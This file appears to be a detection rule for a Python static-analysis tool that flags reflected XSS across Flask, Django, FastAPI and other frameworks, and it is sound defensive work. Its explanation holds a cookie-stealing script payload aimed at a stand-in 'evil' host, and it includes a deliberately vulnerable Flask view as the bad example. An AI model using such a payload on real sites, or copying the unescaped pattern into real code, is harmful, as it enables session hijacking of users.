/**
 * reflected-xss: request data written into an HTML response without escaping.
 *
 * Decisions:
 * - Strings returned from Flask views (and the body of a returned tuple) are HTML; so are FastAPI
 *   returns only when the route declares `response_class=HTMLResponse`. Returned dicts and lists
 *   are JSON and are not reported.
 * - `Response`/`HttpResponse` with a non-HTML `mimetype`/`content_type` are not sinks;
 *   `render_template`, `render`, `jsonify`, `JsonResponse` escape or encode their data.
 * - `Markup(...)`, `mark_safe(...)`, variables a constant `render_template_string` template
 *   renders `|safe`, context variables a template file (`render_template`, Django `render`) renders
 *   `|safe` or under `{% autoescape false/off %}`, and `Template.render(...)` without autoescape are sinks; `Markup("%s") % x`
 *   escapes `x`.
 * - Input used as the template text itself (`render_template_string(x)`, `Template(x)`) is
 *   `template-injection`, reported once there, not again here (neither at the call nor where the
 *   rendered page is returned).
 * - Each stack's own responses are sinks as its model says: aiohttp `web.Response(text=…,
 *   content_type="text/html")`, Tornado `self.write(str)`, Falcon `resp.text` once the content
 *   type is HTML, Pyramid/WebOb `Response`, Sanic `html()`, `http.server` `wfile.write`, a WSGI
 *   body under an HTML `Content-Type`, Azure `HttpResponse(mimetype="text/html")`, …
 */
import type { TaintRule } from "../src/rule.js";
import { XSS_FIX_DOCS, xssFix } from "./lib/xss-fix.js";

export const rule: TaintRule = {
  meta: {
    id: "reflected-xss",
    name: "ReflectedXss",
    shortDescription: "User input is returned in an HTML response without escaping",
    fullDescription:
      "Data from an HTTP request is written into an HTML response (a returned string, a Response body, Markup or a template rendered without autoescape), so a crafted link makes the victim's browser run the attacker's script in the site's origin.",
    docs: {
      whatItDoes:
        "Follows request data from every modelled web stack to strings returned by Flask, Quart, Bottle and Cloud Functions views, `make_response`, Flask/Werkzeug `Response`, Django `HttpResponse` (and its error subclasses), FastAPI/Starlette `HTMLResponse`, `Response(media_type=\"text/html\")` and HTML-declared FastAPI and Litestar routes, aiohttp `web.Response(content_type=\"text/html\")`, Tornado `self.write`/`finish` of a string, Falcon `resp.text` under an HTML content type, Pyramid/WebOb responses, Sanic `html()`, `http.server` `self.wfile.write`, WSGI bodies declared `text/html`, Azure Functions and Chalice HTML responses, variables a constant template renders with `|safe`, context variables that a template file of the project (`render_template(\"page.html\", q=q)`, Django `render`/`render_to_string`/`TemplateResponse` with a `{...}` context; the file under the `templates/` folder nearest to the view) outputs with `|safe` or inside `{% autoescape false %}`/`{% autoescape off %}`, variables Tornado's `self.render(\"page.html\", q=q)` fills into a template file that outputs them with `{% raw q %}` or says `{% autoescape None %}`, `Markup`/`mark_safe`/`format_html`'s format string, and Jinja2 templates rendered without autoescape. Input used as the template text itself is `template-injection`'s, reported there once.\n\nValues escaped with `html.escape`, `markupsafe.escape`, Django's `escape`/`conditional_escape` or by hand (a `replace` chain or `translate` table that leaves no `<`, `>`, `\"` or `'`, as those do; a guard rejecting the four), rendered through autoescaping templates (`render_template`, `render`, an `Environment` with `autoescape`) into variables the template escapes — or through a template pysast cannot find or tell apart, or returned as JSON are not reported. Only the body of a response counts: a value in the headers of `make_response((body, headers))` or `Response(headers=…)` is not HTML, and neither is a body whose response declares a non-HTML content type — when it is built (`mimetype=\"text/plain\"`, a `Content-Type` header in the tuple) or before every view that returns it does (`resp.mimetype = \"text/plain\"`, `resp.headers[\"Content-Type\"] = \"application/json\"`, Django `response[\"Content-Type\"] = …`).",
      whyBad:
        "The browser cannot tell the page's markup from markup that arrived in a query parameter: `?name=<script>fetch('//evil/'+document.cookie)</script>` runs in the victim's session, reading or changing anything the user can. Reflected XSS needs only a link the victim clicks.",
      example: [
        "from flask import Flask, request",
        "",
        "app = Flask(__name__)",
        "",
        "",
        '@app.route("/hello")',
        "def hello():",
        '    name = request.args.get("name", "world")',
        '    return f"<h1>Hello, {name}!</h1>"',
        "",
      ].join("\n"),
      useInstead: [
        "from flask import Flask, render_template_string, request",
        "",
        "app = Flask(__name__)",
        "",
        "",
        '@app.route("/hello")',
        "def hello():",
        '    name = request.args.get("name", "world")',
        '    return render_template_string("<h1>Hello, {{ name }}!</h1>", name=name)',
        "",
      ].join("\n"),
      useInsteadText:
        "Render HTML with an autoescaping template engine and pass input as template variables (`render_template`, Django `render`, a Jinja2 `Environment(autoescape=select_autoescape())`). Where you build HTML by hand, escape each value with `markupsafe.escape`/`html.escape`, or use `Markup(\"<b>%s</b>\") % value`. Return JSON for data endpoints.",
      fix: XSS_FIX_DOCS,
      references: [
        { title: "CWE-79: Improper Neutralization of Input During Web Page Generation", url: "https://cwe.mitre.org/data/definitions/79.html" },
        { title: "OWASP Top 10 2021 A03: Injection", url: "https://owasp.org/Top10/A03_2021-Injection/" },
        { title: "OWASP Cross Site Scripting Prevention Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html" },
        { title: "Flask: security considerations (XSS)", url: "https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss" },
        { title: "MarkupSafe documentation", url: "https://markupsafe.palletsprojects.com/" },
        { title: "Django: cross site scripting protection", url: "https://docs.djangoproject.com/en/stable/topics/security/#cross-site-scripting-xss-protection" },
      ],
    },
    cwe: [79],
    owasp: ["A03:2021-Injection"],
    level: "error",
    securitySeverity: "6.1",
    precision: "high",
    tags: ["security", "xss", "taint", "external/cwe/cwe-79"],
    frameworks: ["flask", "werkzeug", "django", "fastapi", "starlette", "jinja2", "markupsafe"],
    aliases: { bandit: ["B308", "B701", "B703", "B704"], ruff: ["S308", "S701", "S704"] },
    kind: "taint",
    fixSafety: ["safe"],
  },
  sinkKinds: ["xss"],
  fix: xssFix,
};
